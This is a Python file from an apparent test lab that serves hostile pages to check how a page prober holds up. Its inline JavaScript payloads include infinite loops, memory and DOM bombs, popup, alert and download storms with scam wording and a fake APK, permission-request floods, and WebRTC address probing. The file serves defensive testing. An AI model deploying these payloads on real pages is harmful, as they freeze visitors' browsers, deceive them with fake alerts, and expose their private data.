"""Pages that loop, spin, pop up and grow: attacks by script on whoever looks."""

from __future__ import annotations

import asyncio
import itertools

from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route, WebSocketRoute
from starlette.websockets import WebSocket, WebSocketDisconnect

from prober.lab.hostile.attack import LANDING, SEEN, Attack, over, page


def _script(text: str) -> str:
    return f"<script>{text}</script>"


_SPIN = "while(true){}"
_GROW = "setInterval(()=>{for(let i=0;i<2000;i++){const d=document.createElement('div');d.textContent='штраф '+Math.random();document.body.append(d)}},10)"
_FLOOD = "const s=document.createElement('div');s.innerHTML='<b>x</b>'.repeat(200000);document.body.append(s)"
_DEEP = "let n=document.body;for(let i=0;i<20000;i++){const d=document.createElement('div');n.append(d);n=d}n.textContent='дно'"
_HEAP = "const a=[];setInterval(()=>{for(let i=0;i<200;i++)a.push(new Array(100000).fill(Math.random()))},1)"
_BUFFERS = (
    "const a=[];setInterval(()=>{const b=new Uint8Array(64<<20);for(let i=0;i<b.length;i+=4096)b[i]=1;a.push(b)},20)"
)
_TITLE = "document.title='ш'.repeat(30<<20);document.body.dataset.x='y'.repeat(30<<20)"
_ALERTS = "for(let i=0;i<1e6;i++)alert('Ваш телефон заражён '+i)"
_ASKS = "setInterval(()=>{confirm('Оплатить?');prompt('Номер карты?','')},1)"
_PRINTS = "setInterval(()=>print(),1)"
_STAYS = "addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='1'});setInterval(()=>{location.href='/?'+Math.random()},300)"
_POPUPS = "setInterval(()=>{for(let i=0;i<5;i++)window.open('/?'+Math.random(),'_blank')},20)"
_BLANKS = "setInterval(()=>{window.open('about:blank','_blank')},5)"
_DOWNLOADS = "setInterval(()=>{const a=document.createElement('a');a.href='/files/'+Math.random()+'.apk';a.download='egov.apk';a.click()},20)"
_STATES = "setInterval(()=>{for(let i=0;i<500;i++)history.pushState({},'','/?'+Math.random())},1)"
_HASHES = "setInterval(()=>{location.hash=Math.random()},1)"
_FETCHES = "for(let i=0;i<5000;i++)fetch('/files/'+i)"
_IMAGES = "for(let i=0;i<5000;i++){new Image().src='/files/'+i+'.png'}"
_FRAMES = (
    "for(let i=0;i<10000;i++){const f=document.createElement('iframe');f.srcdoc='<p>кадр '+i;document.body.append(f)}"
)
_CANVAS = "for(let i=0;i<40;i++){const c=document.createElement('canvas');c.width=c.height=8000;document.body.append(c);const x=c.getContext('2d');x.fillStyle='red';x.fillRect(0,0,8000,8000)}"
_CONSOLE = "setInterval(()=>{for(let i=0;i<2000;i++)console.log({a:new Array(50).fill('штраф'),i},document.body)},1)"
_MESSAGES = "onmessage=()=>{for(let i=0;i<2;i++)postMessage('x'.repeat(1000),'*')};postMessage('x','*')"
_WORKERS = "const u=URL.createObjectURL(new Blob(['while(true){}']));for(let i=0;i<24;i++)new Worker(u)"
_MUTATIONS = "const p=document.createElement('p');document.body.append(p);setInterval(()=>{for(let i=0;i<500;i++){p.textContent='Загрузка '+Math.random();p.className='c'+Math.random()}},1)"
_FOCUS = "setInterval(()=>{document.getElementById('t').focus()},5)"
_RIGHTS = (
    "const c=f=>{try{const r=f();r&&r.catch&&r.catch(()=>0)}catch(e){}};setInterval(()=>{"
    "c(()=>Notification.requestPermission());c(()=>navigator.geolocation.getCurrentPosition(()=>0));"
    "c(()=>navigator.clipboard.readText());c(()=>navigator.clipboard.writeText('x'));"
    "c(()=>navigator.usb.requestDevice({filters:[]}));c(()=>navigator.bluetooth.requestDevice({acceptAllDevices:true}));"
    "c(()=>navigator.registerProtocolHandler('web+fine',location.origin+'/?u=%s'));"
    "c(()=>navigator.mediaDevices.getUserMedia({video:true,audio:true}));c(()=>navigator.mediaDevices.getDisplayMedia());"
    "c(()=>document.documentElement.requestFullscreen());c(()=>document.body.requestPointerLock());"
    "c(()=>navigator.credentials.get({password:true}));c(()=>navigator.share({url:location.href}));"
    "c(()=>showSaveFilePicker());c(()=>{location.href='tel:102'})},50)"
)
_CALLS = (
    "for(let i=0;i<20;i++){const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'},"
    "{urls:'turn:127.0.0.1:9',username:'a',credential:'b'}]});p.createDataChannel('x');"
    "p.createOffer().then(o=>p.setLocalDescription(o))}"
)
_ANIMATED = (
    "<style>@keyframes k{from{transform:rotate(0)}to{transform:rotate(360deg) scale(3);filter:blur(20px)}}"
    ".k{animation:k .1s infinite;width:300px;height:300px;box-shadow:0 0 99px red;position:absolute}</style>"
)
_SOCKET = "const w=new WebSocket('ws://'+location.host+'/flood');w.onmessage=()=>w.send('x'.repeat(9999))"
_MODAL = "<dialog id=d>Подтвердите оплату <button onclick=\"this.textContent+='!'\">Да</button></dialog>"


async def _flooding(socket: WebSocket) -> None:
    await socket.accept()
    try:
        for _ in range(5_000):
            await socket.send_text("штраф" * 2000)
            await asyncio.sleep(0)
    except (WebSocketDisconnect, RuntimeError):
        return


def _file(request: Request) -> Response:
    return Response(b"PK\x03\x04" + b"a" * 5000, headers={"content-type": "application/vnd.android.package-archive"})


_FILES = Route("/files/{name:path}", _file)
_counter = itertools.count()


def _nested(request: Request) -> Response:
    inner = f'<iframe src="/?{next(_counter)}" width=600 height=600></iframe>' * 2
    return page(LANDING + inner)


def _lazily_nested(request: Request) -> Response:
    port = request.headers.get("host", "").partition(":")[2]
    inner = f'<iframe src="http://nested-hosts--n{next(_counter)}.localhost:{port}/" width=600 height=600></iframe>'
    return page(LANDING + inner)


STORMS: tuple[Attack, ...] = (
    over("reload-loop", "Loads itself again as soon as it is there.", head=_script("location.reload()")),
    over(
        "moving-on", "Moves to a new address as soon as it is there.", head=_script("location.href='/?'+Math.random()")
    ),
    over("refresh-loop", "Refreshes itself at once by its head.", head='<meta http-equiv="refresh" content="0">'),
    over("spin-in-head", "Spins before anything is shown.", head=_script(_SPIN), outcomes=()),
    over("spin-at-load", "Spins while it loads.", body=_script(_SPIN)),
    over("spin-after-load", "Spins shortly after it was loaded.", body=_script(f"setTimeout(()=>{{{_SPIN}}},50)")),
    over("spin-again", "Spins again whenever it is stopped.", body=_script(f"setInterval(()=>{{{_SPIN}}},5)")),
    over("spin-on-click", "Spins when the button is pressed.", body=_script(f"b.onclick=()=>{{{_SPIN}}}")),
    over("spin-on-submit", "Spins when the form is sent.", body=_script(f"f.onsubmit=()=>{{{_SPIN}}}")),
    over("spin-on-input", "Spins when something is typed.", body=_script(f"f.oninput=()=>{{{_SPIN}}}")),
    over("spin-after-fine", "Spins as soon as the fine is shown.", after=_script(f"setTimeout(()=>{{{_SPIN}}},300)")),
    over("spin-workers", "Two dozen workers spin.", body=_script(_WORKERS)),
    over("memory-bomb", "Fills the heap.", body=_script(_HEAP)),
    over("buffer-bomb", "Fills memory outside the heap.", body=_script(_BUFFERS)),
    over("long-strings", "A title and an attribute of 30 million letters.", body=_script(_TITLE)),
    over("dom-growth", "Grows without end.", body=_script(_GROW)),
    over("dom-flood", "200,000 elements at once.", body=_script(_FLOOD)),
    over("dom-depth", "20,000 elements inside each other.", body=_script(_DEEP)),
    over("alert-storm", "A million alerts.", body=_script(_ALERTS)),
    over("ask-storm", "Confirms and prompts without end.", body=_script(_ASKS)),
    over("print-storm", "Prints without end.", body=_script(_PRINTS)),
    over("stay-storm", "Leaves all the time and asks whether to stay.", body=_script(_STAYS)),
    over("popup-storm", "Opens itself in new windows.", body=_script(_POPUPS)),
    over("blank-storm", "Opens blank windows.", body=_script(_BLANKS)),
    over("download-storm", "Hands over one app after another.", body=_script(_DOWNLOADS), routes=(_FILES,)),
    over("apk-landing", "The link itself is an app.", landing=_file, expect=("inconclusive",)),
    over("history-storm", "Writes history without end.", body=_script(_STATES)),
    over("hash-storm", "Moves within itself without end.", body=_script(_HASHES)),
    over("fetch-storm", "5,000 calls.", body=_script(_FETCHES), routes=(_FILES,)),
    over("picture-storm", "5,000 pictures.", body=_script(_IMAGES), routes=(_FILES,)),
    over("frame-storm", "10,000 frames.", body=_script(_FRAMES)),
    over("nested-frames", "Frames in frames without end.", landing=_nested),
    over("nested-hosts", "Frames of ever new hosts in each other.", landing=_lazily_nested),
    over("canvas-bomb", "Forty drawings of 64 megapixels.", body=_script(_CANVAS)),
    over("console-storm", "Logs without end.", body=_script(_CONSOLE)),
    over("message-storm", "Messages to itself, doubling.", body=_script(_MESSAGES)),
    over("mutation-storm", "Changes a thousand times a second.", body=_script(_MUTATIONS)),
    over(
        "socket-flood",
        "A socket that pushes without end.",
        body=_script(_SOCKET),
        routes=(WebSocketRoute("/flood", _flooding),),
    ),
    over("animation-storm", "Hundreds of blurred animations.", head=_ANIMATED, body="<div class=k></div>" * 300),
    over(
        "focus-thief",
        "Pulls the cursor into a hidden field.",
        body="<textarea id=t style='position:fixed;left:-999px'></textarea>" + _script(_FOCUS),
    ),
    over(
        "modal",
        "A modal window without a way out.",
        body=_MODAL + _script("d.showModal();d.oncancel=e=>e.preventDefault()"),
    ),
    over("rights-storm", "Asks for every right there is.", body=_script(_RIGHTS)),
    over("calls", "Opens calls to find the real address.", body=_script(_CALLS), expect=("fraudulent", *SEEN[1:])),
)
